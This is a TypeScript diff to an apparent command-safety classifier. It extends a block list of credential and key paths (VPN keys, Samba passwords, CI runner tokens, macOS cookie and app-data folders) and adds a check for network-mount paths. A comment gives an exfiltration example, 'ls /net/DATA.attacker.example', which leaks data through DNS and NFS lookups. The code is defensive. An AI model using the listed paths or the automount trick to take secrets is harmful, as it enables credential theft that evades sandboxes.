@@ -36,6 +36,10 @@ const SECRET_SEQUENCES: readonly (readonly string[])[] = [
   'etc/ppp/pap-secrets', '.terraformrc',
   // rt-classifier: a cluster's admin kubeconfig and PKI, the kubelet's client keys, TLS keys
   'etc/kubernetes', 'etc/rancher', 'var/lib/kubelet', 'var/lib/rancher', 'etc/letsencrypt',
+  // rt-classifier: VPN and tunnel keys, service passwords kept in /etc, a CI runner's tokens, macOS cookies
+  'etc/wireguard', 'etc/ipsec.secrets', 'etc/ipsec.d/private', 'etc/openvpn', 'etc/mysql/debian.cnf', 'etc/postfix/sasl_passwd',
+  'etc/gitlab-runner', 'etc/ldap.secret', 'etc/pam_ldap.secret', 'etc/samba/smbpasswd', 'var/lib/samba/private', 'etc/docker/key.json',
+  'Library/Cookies', 'Library/Application Support/Slack', 'Library/Application Support/discord', 'Library/Application Support/1Password',
 ].map((s) => s.split('/'));
 
 /**
@@ -249,6 +253,28 @@ function homeDotEntry(text: string, absolute: string, lexical: readonly string[]
   for (let i = 0; i + 2 < parts.length; i++) {
     if ((segmentMatches(parts[i]!, 'home') || segmentMatches(parts[i]!, 'users')) && dotted(parts[i + 2])) return `/${parts.slice(0, i + 3).join('/')}`;
   }
+  return null;
+}
+
+/**
+ * Roots where opening a path makes the system reach another host: the automounter's `-hosts` map
+ * (`/net/HOST/...`, on by default on macOS, common with autofs on Linux), macOS's `/Network`, AFS
+ * cells, and a `//HOST/share` UNC path where the platform reads one. The mount is made by a
+ * system daemon, outside any sandbox of the command, so `ls /net/DATA.attacker.example` sends
+ * DATA out in a DNS query and an NFS mount request (rt-classifier). The root itself may be a glob
+ * (`/n?t/x`). Returns the root named, or null. Pure.
+ */
+export function networkMountIn(text: string): string | null {
+  const at = text.indexOf('/');
+  if (at < 0) return null;
+  const prefix = text.slice(0, at);
+  // an operand, or the value of an option or `NAME=` (`--file=/net/x`); not `src/net/x`
+  if (!(prefix === '' || prefix.startsWith('-') || prefix.includes('='))) return null;
+  const absolute = text.slice(at);
+  if (/^\/\/[^/]/.test(absolute)) return absolute;
+  const first = lexicalSegments(absolute.split('/').filter((s) => s !== '' && s !== '.'))[0];
+  if (first === undefined) return null;
+  for (const root of ['net', 'Network', 'afs']) if (segmentMatches(first, root)) return `/${first}`;
   return null;
 }
 
